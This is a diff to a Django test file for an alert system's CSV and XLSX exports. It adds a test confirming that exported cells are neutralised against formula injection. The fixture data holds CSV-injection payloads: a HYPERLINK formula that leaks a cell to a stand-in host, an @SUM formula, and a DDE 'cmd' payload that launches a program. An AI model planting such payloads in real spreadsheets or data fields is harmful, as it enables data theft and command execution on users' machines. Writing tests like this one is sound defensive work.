@@ -11,6 +11,7 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from cases.models import Assignment
+from tests.conftest import SOURCE_KEY
 
 
 def _rows(body: str) -> list[int]:
@@ -72,9 +73,31 @@ def test_xlsx_export_is_scoped(people, make_alert, org, client_for):
     make_alert(title="昆山", org_unit=org.kunshan)
     r = client_for(people.changshu_leader).get(reverse("web:alert_export_xlsx"))
     assert r.status_code == 200
-    ws = load_workbook(io.BytesIO(r.content)).active
+    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content))).active
     titles = [row[1] for row in ws.iter_rows(min_row=2, values_only=True)]
     assert titles == ["常熟"]
+
+
+FORMULA = '=HYPERLINK("http://x?leak="&A2,"x")'
+
+
+def test_exports_neutralise_formulas_in_every_cell(people, source, api, client_for):
+    """A title pushed by a business system must not run as a formula in Excel (CSV injection)."""
+    feed = api()
+    feed.credentials(HTTP_AUTHORIZATION=f"Api-Key {SOURCE_KEY}")
+    r = feed.post("/api/v1/intake/alerts/", {
+        "dedup_key": "inj-1", "title": FORMULA, "risk_level": "red", "org_unit": "kunshan",
+        "subject": {"name": "@SUM(1+1)"}, "rule": "+cmd|' /C calc'!A0"}, format="json")
+    assert r.status_code == 201, r.content
+    c = client_for(people.kunshan_supervisor)
+    raw = b"".join(c.get(reverse("web:alert_export_csv")).streaming_content).decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(raw)))[1]
+    assert row[1] == "'" + FORMULA and row[9] == "'@SUM(1+1)" and row[8].startswith("'+")
+    ws = load_workbook(io.BytesIO(b"".join(c.get(reverse("web:alert_export_xlsx")).streaming_content))).active
+    cells = next(ws.iter_rows(min_row=2, max_row=2))
+    assert cells[1].value == "'" + FORMULA and cells[1].data_type == "s"
+    # Every cell is text: nothing in the sheet is a formula, a number or a date.
+    assert all(cell.data_type == "s" for row in ws.iter_rows() for cell in row if cell.value is not None)
 
 
 def test_the_list_filters_drill_down_from_the_dashboard(people, make_alert, org, client_for):
